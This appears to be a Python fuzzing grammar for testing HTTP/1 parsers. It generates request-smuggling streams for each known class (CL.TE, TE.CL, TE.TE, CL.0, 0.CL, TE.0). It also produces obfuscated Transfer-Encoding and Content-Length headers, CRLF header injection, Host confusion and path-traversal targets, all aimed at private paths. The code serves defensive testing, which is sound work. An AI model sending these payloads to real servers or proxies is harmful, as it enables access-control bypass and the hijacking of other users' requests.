"""The HTTP/1 grammar writes byte streams that two readers may read differently.

Most streams are valid except in one place: a stream that is broken everywhere is refused at its first byte and
tests nothing. Each class of streams is named for the published class of request smuggling it stands for: `CL.TE`
is a message whose Content-Length and Transfer-Encoding disagree, and so on. In every class the body, or what one
reader takes for it, holds a complete request of its own: the smuggled request.

Everything random comes from the `random.Random` that is passed in, so that a seed stands for a stream.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random

LAST = "last"  # in the path of the request that ends every stream


@dataclass(frozen=True)
class Aims:
    """The targets of one case: no other case has the same ones, so that the audit log can be counted."""

    number: int
    authority: str
    absolute: bool = False  # whether requests are written in absolute-form, as to a proxy

    def target(self, path: str) -> str:
        """Return a path in the form in which requests of this case are written."""
        return f"http://{self.authority}{path}" if self.absolute else path

    def open(self, name: object = "") -> str:
        return self.target(f"/open/{self.number}.{name}")

    def private(self, name: object = "") -> str:
        return self.target(f"/private/{self.number}.{name}")

    @property
    def robots(self) -> str:
        return self.target("/robots.txt")


Field = tuple[bytes, bytes]
METHODS = (
    "GET",
    "POST",
    "PUT",
    "HEAD",
    "DELETE",
    "OPTIONS",
    "PATCH",
    "TRACE",
    "PROPFIND",
    "get",
    "X-Y",
)
BODILESS = ("GET", "HEAD", "DELETE", "OPTIONS")
LINE_ENDS = (b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\x0b\r\n", b" \r\n")


def write(line: bytes | str, fields: Sequence[Field], body: bytes = b"") -> bytes:
    """Write a request whose lines end as they should."""
    lines = [line.encode("latin-1") if isinstance(line, str) else line]
    lines += [name + b":" + value for name, value in fields]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def host(aims: Aims) -> Field:
    return b"Host", b" " + aims.authority.encode()


def chunked(body: bytes) -> bytes:
    """Return the body as one chunk and the last chunk."""
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) if body else b"0\r\n\r\n"


def smuggled(rng: Random, aims: Aims, name: object = "smuggled") -> bytes:
    """Write the request that hides in a body: forbidden in most cases, never judged in any."""
    path = rng.choice((aims.private, aims.private, aims.private, aims.open))(name)
    version = rng.choice((" HTTP/1.1", " HTTP/1.1", " HTTP/1.1", " HTTP/1.0", ""))
    method = rng.choice(("GET", "GET", "GET", "POST", "HEAD"))
    stream = write(f"{method} {path}{version}", [host(aims)])
    if rng.random() < 0.15:
        stream = stream.replace(b"\r\n", b"\n")
    if rng.random() < 0.1:  # the victim's request line becomes the value of a field
        stream = stream[:-2] + b"X-Ignored: "
    return stream


def last(aims: Aims) -> bytes:
    """Write the request behind everything: the victim of smuggling, and the sign that the proxy has read it all."""
    return write(
        f"GET {aims.target(f'/open/{aims.number}.{LAST}')} HTTP/1.1",
        [host(aims), (b"Connection", b" close")],
    )


# -- classes --------------------------------------------------------------------------------------------------


def plain(rng: Random, aims: Aims) -> bytes:
    """One to four requests in a row, valid in every respect."""
    stream = b""
    for number in range(rng.randint(1, 4)):
        method = rng.choice(METHODS[:7])
        path = rng.choice((aims.open, aims.open, aims.private))(number)
        body = rng.choice((b"", b"x" * rng.randint(1, 40), smuggled(rng, aims, f"in{number}")))
        fields = [host(aims)]
        if body and rng.random() < 0.5:
            fields.append((b"Transfer-Encoding", b" chunked"))
            body = chunked(body)
        elif body or method in ("POST", "PUT", "PATCH"):
            fields.append((b"Content-Length", b" %d" % len(body)))
        stream += write(f"{method} {path} HTTP/1.1", fields, body)
    return stream


def request_line(rng: Random, aims: Aims) -> bytes:
    """A request line that readers split in different places."""
    path, secret, authority = aims.open("line"), aims.private("line"), aims.authority
    method = rng.choice(
        (*METHODS, "CONNECT", "PRI", "", " GET", "G\tET", "GET\x00", "GET\r", "G(T")
    )
    target = rng.choice(
        (
            path,
            f"{path} {secret}",
            f"{path}\t{secret}",
            f"{path} HTTP/1.1 {secret}",
            f"{path}?x={secret}",
            f"{path}#{secret}",
            f"{path}\x00{secret}",
            f"{path}\r{secret}",
            f"{path}\x0b{secret}",
            f"{path}\xa0{secret}",
            f"{path} HTTP/1.1\nGET {secret}",
            f"{path} HTTP/1.1\rHost: {authority}\r\rGET {secret}",
            "*",
            "",
            authority,
            f"//{authority}{secret}",
            f"http://{authority}/open/{aims.number}.a",
            f"https://{authority}/open/{aims.number}.a",
            f"HTTP://{authority.upper()}/open/{aims.number}.a",
            f"http://user:pass@{authority}/open/{aims.number}.u",
            f"http://{authority}@elsewhere.invalid/open",
            f"http://elsewhere.invalid/open/{aims.number}",
            f"http://{authority}",
            f"http://{authority}?/private/{aims.number}",
            f"http:/{secret}",
            f"http:{secret}",
            "/open/../private/" + str(aims.number),
            "/open/%2e%2e/private/" + str(aims.number),
            "/open\\..\\private\\" + str(aims.number),
            "/robots.txt",
            "/robots.txt/../private/" + str(aims.number),
        )
    )
    version = rng.choice(
        ("HTTP/1.1",) * 8
        + (
            "HTTP/1.0",
            "HTTP/0.9",
            "HTTP/2.0",
            "HTTP/1.2",
            "HTTP/1.10",
            "http/1.1",
            "HTTP/1.1 ",
            "HTTP/ 1.1",
            "HTTP/1",
            "",
        )
    )
    gaps = (" ",) * 10 + ("  ", "\t", " \t", "\x0b", "\x0c", "\r", "\xa0", "")
    line = f"{method}{rng.choice(gaps)}{target}{rng.choice(gaps)}{version}".encode("latin-1")
    before = rng.choice(
        (b"",) * 6 + (b"\r\n", b"\r\n\r\n", b"\n", b"\r", b" ", b"\x00", b"\r\n \r\n")
    )
    return before + write(line, [host(aims)])


def fields(rng: Random, aims: Aims) -> bytes:
    """A field that one reader sees and another does not, or that splits the head in two."""
    private = aims.private("field").encode("latin-1")
    injected = b"GET %s HTTP/1.1\r\nHost: %s" % (private, aims.authority.encode())
    odd = rng.choice(
        (
            (b"X-A", b" b\r\n" + injected),
            (b"X-A", b" b\r\n\r\n" + injected),
            (b"X-A", b" b\n\n" + injected),
            (b"X-A", b" b\r\r" + injected),
            (b"X-A", b" b\n\r\n" + injected),
            (b"X-A", b" b\x00\r\n"),
            (b"X-A", b" b\r\n\tfolded: " + private),
            (b"X-A", b" b\r\n Content-Length: 5"),
            (b"X-A\r\n\r\n" + injected, b" b"),
            (b"X A", b" b"),
            (b"", b" b"),
            (b"X-A\x00", b" b"),
            (b" X-A", b" b"),
            (b"GET " + private + b" HTTP/1.1\r\nX", b" b"),
            (b"X-Original-URL", b" " + private),
            (b"X-Rewrite-URL", b" " + private),
            (b"X-HTTP-Method-Override", b" PUT"),
            (b"X-Forwarded-Host", b" elsewhere.invalid"),
            (b"X-A", b" " + b"b" * rng.choice((1_000, 9_000, 70_000))),
            (b"Cookie", b" a=b; c=d"),
            (b"\xc3\xa4", b" \xc3\xb6\xff"),
        )
    )
    around = [host(aims), odd]
    if rng.random() < 0.3:
        around.reverse()
    return write(f"{rng.choice(METHODS)} {aims.open('field')} HTTP/1.1", around)


def hosts(rng: Random, aims: Aims) -> bytes:
    """A name that is the site's by one reading and another's by the next."""
    address, _, port = aims.authority.partition(":")
    parts = [int(part) for part in address.split(".")]
    number = int.from_bytes(bytes(parts), "big")
    name = rng.choice(
        (
            aims.authority,
            f"{number}:{port}",
            f"{number:#x}:{port}",
            f"{parts[0]}.{parts[1]}.{parts[2] * 256 + parts[3]}:{port}",
            f"{parts[0]:#o}.{parts[1]}.{parts[2]}.{parts[3]}:{port}",
            f"{address}.:{port}",
            f"{address}:0{port}",
            f"{address}:",
            address,
            f"user@{aims.authority}",
            f"{aims.authority}, elsewhere.invalid",
            f"{aims.authority} ",
            f"\t{aims.authority}",
            f"{aims.authority}/private",
            f"{aims.authority}\x00",
            "elsewhere.invalid",
            "",
        )
    )
    named: list[list[Field]] = [
        [(b"Host", b" " + name.encode())],
        [(b"Host", b" " + name.encode()), host(aims)],
        [host(aims), (b"host", b" " + name.encode())],
        [(b"Host ", b" " + name.encode()), host(aims)],
        [(b"Host", b" " + aims.authority.encode() + b"\r\n " + name.encode())],
        [host(aims), (b"Connection", b" Host")],
        [],
    ]
    version = rng.choice(("HTTP/1.1", "HTTP/1.1", "HTTP/1.0"))
    absolute = f"http://{name}/open/{aims.number}.host".rstrip()
    target = rng.choice((aims.open("host"), aims.open("host"), absolute))
    return write(f"GET {target} {version}", rng.choice(named))


def length(rng: Random, aims: Aims) -> bytes:
    """A Content-Length that readers take for different numbers."""
    body = smuggled(rng, aims)
    size = len(body)
    forms = (
        f"{size}",
        f"+{size}",
        f"-{size}",
        f"{size:#x}",
        f"{size:x}",
        f"0{size}",
        f"{size}, {size}",
        f"{size},0",
        f"0,{size}",
        f"{size} 0",
        f"{size}.0",
        f"{size}e0",
        f" {size} ",
        f"\t{size}",
        f"\x0b{size}",
        f"{size}\x00",
        f'"{size}"',
        f"{size};0",
        f"{2**64 + size}",
        f"{2**32 + size}",
        "9" * 30,
        "",
        "0",
        "-0",
        f"{size // 10}_{size % 10}",
        f"\xa0{size}",
    )
    names = (b"Content-Length",) * 8 + (
        b"Content-Length ",
        b"Content_Length",
        b"content-length\t",
        b"CONTENT-LENGTH",
        b" Content-Length",
        b"Content-Length\x00",
        b"X-Content-Length",
        b"Content\rLength",
        b"\x0bContent-Length",
    )
    said = [(rng.choice(names), b" " + rng.choice(forms).encode("latin-1"))]
    if rng.random() < 0.4:
        said.append((rng.choice(names), b" " + rng.choice(forms).encode("latin-1")))
    return write(
        f"{_any_method(rng)} {aims.open('length')} HTTP/1.1",
        _shuffled(rng, [host(aims), *said]),
        body,
    )


CODINGS = (
    b" chunked",
    b"chunked",
    b" Chunked",
    b" CHUNKED",
    b"\tchunked",
    b" chunked ",
    b" chunked\t",
    b" chunked, identity",
    b" identity, chunked",
    b" xchunked",
    b" chunkedx",
    b" chunk",
    b' "chunked"',
    b" chunked;q=1",
    b" chunked, chunked",
    b" ,chunked",
    b" chunked,",
    b" gzip, chunked",
    b" chunked, gzip",
    b" identity",
    b" \x0bchunked",
    b" \x00chunked",
    b" chunked\x00",
    b" chu\r\n nked",
    b"\r\n chunked",
    b" x\r\n chunked",
    b" \xa0chunked",
    b" c\xc8unked",
    b" chunked\r",
    b" trailers, chunked",
    b"",
)
CODING_NAMES = (b"Transfer-Encoding",) * 10 + (
    b"Transfer-Encoding ",
    b"Transfer-Encoding\t",
    b"Transfer_Encoding",
    b" Transfer-Encoding",
    b"\tTransfer-Encoding",
    b"X: y\r\nTransfer-Encoding",
    b"X: y\nTransfer-Encoding",
    b"X: y\rTransfer-Encoding",
    b"Transfer-Encoding\x00",
    b"Transfer\x00-Encoding",
    b"TRANSFER-ENCODING",
    b"Transfer-\xc8ncoding",
    b"TE",
    b"\x0bTransfer-Encoding",
)


def cl_te(rng: Random, aims: Aims) -> bytes:
    """The length covers all, the chunks end before the smuggled request."""
    body = b"0\r\n\r\n" + smuggled(rng, aims)
    return _both(rng, aims, "CL.TE", len(body), body)


def te_cl(rng: Random, aims: Aims) -> bytes:
    """The chunks cover all, the length ends before the smuggled request."""
    hidden = smuggled(rng, aims)
    size = b"%x\r\n" % len(hidden)
    return _both(rng, aims, "TE.CL", len(size), chunked(hidden))


def te_te(rng: Random, aims: Aims) -> bytes:
    """Two codings, of which each reader obeys another one."""
    body = rng.choice((chunked(smuggled(rng, aims)), b"0\r\n\r\n" + smuggled(rng, aims)))
    said = [(rng.choice(CODING_NAMES), rng.choice(CODINGS)) for _ in range(2)]
    if rng.random() < 0.5:
        said.append((b"Content-Length", b" %d" % rng.choice((len(body), 0, 4, 5))))
    return write(
        f"{_any_method(rng)} {aims.open('TE.TE')} HTTP/1.1",
        _shuffled(rng, [host(aims), *said]),
        body,
    )


def cl_0(rng: Random, aims: Aims) -> bytes:
    """A framed body to a server that does not read it: for its method, or for its path."""
    body = smuggled(rng, aims)
    target = rng.choice((aims.open("CL.0"), aims.open("CL.0"), aims.robots, aims.private("CL.0")))
    framing = (b"Content-Length", b" %d" % len(body))
    if rng.random() < 0.4:
        framing, body = (b"Transfer-Encoding", b" chunked"), chunked(body)
    version = rng.choice(("HTTP/1.1",) * 4 + ("HTTP/1.0",))
    keeps = [(b"Connection", b" keep-alive")] if version == "HTTP/1.0" else []
    method = rng.choice((*BODILESS, "POST", "PUT", "TRACE"))
    return write(f"{method} {target} {version}", [host(aims), framing, *keeps], body)


def zero_cl(rng: Random, aims: Aims) -> bytes:
    """No length by one reading, the next request as body by another (0.CL)."""
    hidden = smuggled(rng, aims)
    name = rng.choice(
        (
            b"Content_Length",
            b"Content-Length ",
            b" Content-Length",
            b"X:\r\n Content-Length",
            b"Content-Length",
        )
    )
    said = [(name, b" %d" % len(hidden))]
    if rng.random() < 0.3:
        said.append((b"Expect", b" 100-continue"))
    method = rng.choice(("GET", "POST", "HEAD"))
    return (
        write(f"{method} {aims.open('0.CL')} HTTP/1.1", _shuffled(rng, [host(aims), *said]))
        + hidden
    )


def swallowed(rng: Random, aims: Aims) -> bytes:
    """No length by one reading; by another the next request up to a value, which is a request line (0.CL)."""
    name, value = host(aims)
    secret = b" GET %s HTTP/1.1" % aims.private("swallowed").encode()
    line = f"GET {aims.open('victim')} HTTP/1.1".encode()
    victim = write(line, [(name, value), (b"X-A", secret), (b"X-B", b" c")])
    # What is swallowed, as the client has written it or as a proxy writes it.
    lines = [line, f"GET /open/{aims.number}.victim HTTP/1.1".encode()]
    size = len(rng.choice(lines)) + len(b"\r\n" + name + b":" + value + b"\r\nX-A: ")
    names = (
        b"Content_Length",
        b"Content-Length ",
        b" Content-Length",
        b"Content-Length\t",
        b"Content-Length\x00",
        b"Content.Length",
        b"Content-Length\x0b",
        b"X:\n Content-Length",
        b"X:\r\n\tContent-Length",
        b"\x0bContent-Length",
        b"Content-\xc5\xbfength",
    )
    codings = (
        b"Transfer_Encoding",
        b"Transfer-Encoding ",
        b" Transfer-Encoding",
        b"Transfer-Encoding\t",
    )
    said = (rng.choice(names), b" %d" % size)
    if rng.random() < 0.2:
        said = (rng.choice(codings), b" chunked")
        victim = b"0\r\n\r\n" + victim
    return write(f"GET {aims.open('0.CL')} HTTP/1.1", _shuffled(rng, [host(aims), said])) + victim


def te_0(rng: Random, aims: Aims) -> bytes:
    """Chunks that a server takes for no body (TE.0)."""
    body = chunked(smuggled(rng, aims))
    method = rng.choice((*BODILESS, "POST"))
    return write(
        f"{method} {aims.open('TE.0')} HTTP/1.1",
        [host(aims), (b"Transfer-Encoding", b" chunked")],
        body,
    )


def chunks(rng: Random, aims: Aims) -> bytes:
    """A chunked body with one odd place: size, extension, line end, last chunk."""
    hidden = smuggled(rng, aims)
    size = len(hidden)
    sizes = (
        f"{size:x}",
        f"{size:X}",
        f"0{size:x}",
        f"{'0' * 20}{size:x}",
        f"{size:#x}",
        f"+{size:x}",
        f"-{size:x}",
        f" {size:x}",
        f"{size:x} ",
        f"{size:x}\t",
        f"{size:x};a",
        f"{size:x};a=b",
        f'{size:x};a="b\r\n"',
        f"{size:x};a\n",
        f"{size:x};\rx",
        f"{size:x} ; a = b",
        f"{size:x};" + "a" * rng.choice((20, 5000)),
        f"{2**64 + size:x}",
        f"{2**32 + size:x}",
        "f" * 17,
        f"{size + 2:x}",
        f"{size - 2:x}",
        f"{size:x}g",
        f"{size:x}\x00",
        "",
        "0x",
        f"{size:x};\nGET /private/{aims.number}.ext HTTP/1.1",
        f"{size:x}_0",
        f"\u0665{size:x}",
    )
    ends = (b"\r\n",) * 6 + LINE_ENDS + (b"", b"XX")
    lasts = (b"0\r\n\r\n",) * 5 + (
        b"0\r\n",
        b"",
        b"00\r\n\r\n",
        b"0;a=b\r\n\r\n",
        b"0\n\n",
        b"0\r\n\r",
        b"0 \r\n\r\n",
        b"-0\r\n\r\n",
        b"0\r\r",
    )
    size_line = rng.choice(sizes).encode("utf-8") + rng.choice(ends)
    body = size_line + hidden + rng.choice(ends) + rng.choice(lasts)
    return write(
        f"{_any_method(rng)} {aims.open('chunks')} HTTP/1.1",
        [host(aims), (b"Transfer-Encoding", b" chunked")],
        body,
    )


def trailers(rng: Random, aims: Aims) -> bytes:
    """Fields behind a chunked body, which a reader may merge into the head."""
    hidden = smuggled(rng, aims)
    trailer = rng.choice(
        (
            b"X-A: b\r\n",
            b"Content-Length: %d\r\n" % len(hidden),
            b"Transfer-Encoding: chunked\r\n",
            b"Host: elsewhere.invalid\r\n",
            b"X-A: b\n\n" + hidden,
            b"X-A: b\r\r\n" + hidden,
            b"\n" + hidden,
            hidden[:-2],
            b" folded: b\r\n",
            b"no colon\r\n",
            b"X-A: " + b"b" * 20_000 + b"\r\n",
        )
    )
    body = b"3\r\nabc\r\n0\r\n" + trailer + b"\r\n"
    announced = [(b"Trailer", b" X-A")] if rng.random() < 0.5 else []
    head = [host(aims), (b"Transfer-Encoding", b" chunked"), (b"TE", b" trailers"), *announced]
    return write(f"POST {aims.open('trailers')} HTTP/1.1", head, body)


def hop_by_hop(rng: Random, aims: Aims) -> bytes:
    """A Connection field that names what frames or addresses the message."""
    body = smuggled(rng, aims)
    framing = (b"Content-Length", b" %d" % len(body))
    if rng.random() < 0.5:
        framing, body = (b"Transfer-Encoding", b" chunked"), chunked(body)
    names = rng.choice(
        (
            b"Content-Length",
            b"Transfer-Encoding",
            b"Host",
            b"content-length, Host",
            b"close, Content-Length",
            b"keep-alive",
            b"close",
            b"TE, Transfer-Encoding",
            b"Cookie",
            b"\x00",
            b"Connection",
            b"clos\xe9",
            b"close, keep-alive",
        )
    )
    name = rng.choice((b"Connection",) * 4 + (b"Proxy-Connection", b"Keep-Alive", b"Connection "))
    return write(
        f"{_any_method(rng)} {aims.open('hop')} HTTP/1.1",
        _shuffled(rng, [host(aims), framing, (name, b" " + names)]),
        body,
    )


def expect(rng: Random, aims: Aims) -> bytes:
    """A body announced by Expect, which a server may answer without reading."""
    body = smuggled(rng, aims)
    framing = rng.choice(
        (
            (b"Content-Length", b" %d" % len(body)),
            (b"Transfer-Encoding", b" chunked"),
            (b"Content-Length", b" 0"),
        )
    )
    if framing[0] == b"Transfer-Encoding":
        body = chunked(body)
    value = rng.choice(
        (
            b" 100-continue",
            b" 100-Continue",
            b" 100-continue ",
            b" x 100-continue",
            b" 100-continue, x",
            b" y",
            b"\r\n 100-continue",
        )
    )
    return write(
        f"{_any_method(rng)} {aims.open('expect')} HTTP/1.1",
        _shuffled(rng, [host(aims), framing, (b"Expect", value)]),
        body,
    )


def upgrade(rng: Random, aims: Aims) -> bytes:
    """A change of protocol behind which requests would be out of sight."""
    protocol = rng.choice(
        (
            b"h2c",
            b"websocket",
            b"websocket, h2c",
            b"TLS/1.0",
            b"HTTP/2.0",
            b"WebSocket",
            b" h2c\r\n websocket",
            b"",
        )
    )
    said = [
        (b"Upgrade", b" " + protocol),
        (
            b"Connection",
            rng.choice(
                (b" Upgrade", b" Upgrade, HTTP2-Settings", b" keep-alive, Upgrade", b" close")
            ),
        ),
        (b"HTTP2-Settings", b" AAMAAABkAAQAAP__"),
        (b"Sec-WebSocket-Key", b" dGhlIHNhbXBsZSBub25jZQ=="),
        (b"Sec-WebSocket-Version", rng.choice((b" 13", b" 777"))),
    ]
    hidden = rng.choice((b"", smuggled(rng, aims), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
    return write(f"GET {aims.open('upgrade')} HTTP/1.1", [host(aims), *said], hidden)


def unfinished(rng: Random, aims: Aims) -> bytes:
    """A body that its client never sends to its end."""
    body = smuggled(rng, aims)
    framing = rng.choice(
        ((b"Content-Length", b" %d" % (len(body) + 1000)), (b"Transfer-Encoding", b" chunked"))
    )
    if framing[0] == b"Transfer-Encoding":
        body = b"%x\r\n%s" % (len(body) + rng.choice((0, 1000)), body)
    return write(
        f"{_any_method(rng)} {aims.open('unfinished')} HTTP/1.1", [host(aims), framing], body
    )


def line_ends(rng: Random, aims: Aims) -> bytes:
    """A message, valid otherwise, whose lines end in other ways."""
    stream = rng.choice((plain, cl_0, te_0))(rng, aims)
    parts = stream.split(b"\r\n")
    odd = rng.choice(LINE_ENDS)
    share = rng.choice((0.2, 1.0))
    ends = [odd if rng.random() < share else b"\r\n" for _ in parts[1:]] + [b""]
    return b"".join(part + end for part, end in zip(parts, ends, strict=True))


CLASSES: dict[str, Callable[[Random, Aims], bytes]] = {
    "plain": plain,
    "request line": request_line,
    "fields": fields,
    "hosts": hosts,
    "Content-Length": length,
    "CL.TE": cl_te,
    "TE.CL": te_cl,
    "TE.TE": te_te,
    "CL.0": cl_0,
    "0.CL": zero_cl,
    "0.CL, swallowed": swallowed,
    "TE.0": te_0,
    "chunks": chunks,
    "trailers": trailers,
    "hop-by-hop": hop_by_hop,
    "Expect": expect,
    "Upgrade": upgrade,
    "unfinished": unfinished,
    "line ends": line_ends,
}


def stream(rng: Random, aims: Aims) -> tuple[str, bytes]:
    """Return a class of streams and a stream of it, with a valid request behind it."""
    name = rng.choice(list(CLASSES))
    written = CLASSES[name](rng, aims)
    if rng.random() < 0.15:
        written = _disturbed(rng, written)
    return name, written + last(aims)


def in_pieces(rng: Random, data: bytes) -> tuple[bytes, ...]:
    """Cut a stream where its writes end: in one, at a few places, or after each of its first bytes."""
    if rng.random() < 0.7:
        return (data,)
    cuts = sorted(rng.sample(range(len(data)), min(len(data), rng.choice((1, 2, 5)))))
    return tuple(data[start:end] for start, end in zip([0, *cuts], [*cuts, len(data)], strict=True))


def _disturbed(rng: Random, data: bytes) -> bytes:
    """Insert, remove or double one byte."""
    at = rng.randrange(len(data))
    return rng.choice(
        (
            data[:at]
            + rng.choice((b"\r", b"\n", b"\0", b" ", b"\t", b":", b"\xff", b"\r\n"))
            + data[at:],
            data[:at] + data[at + 1 :],
            data[:at] + data[at : at + 1] + data[at:],
        )
    )


def _both(rng: Random, aims: Aims, name: str, size: int, body: bytes) -> bytes:
    said = [(rng.choice(CODING_NAMES), rng.choice(CODINGS)), (b"Content-Length", b" %d" % size)]
    version = rng.choice(("HTTP/1.1",) * 5 + ("HTTP/1.0",))
    return write(
        f"{_any_method(rng)} {aims.open(name)} {version}", _shuffled(rng, [host(aims), *said]), body
    )


def _any_method(rng: Random) -> str:
    return rng.choice(("POST", "POST", "PUT", "GET", "HEAD", "DELETE", "OPTIONS"))


def _shuffled(rng: Random, several: list[Field]) -> list[Field]:
    if rng.random() < 0.5:
        rng.shuffle(several)
    return several
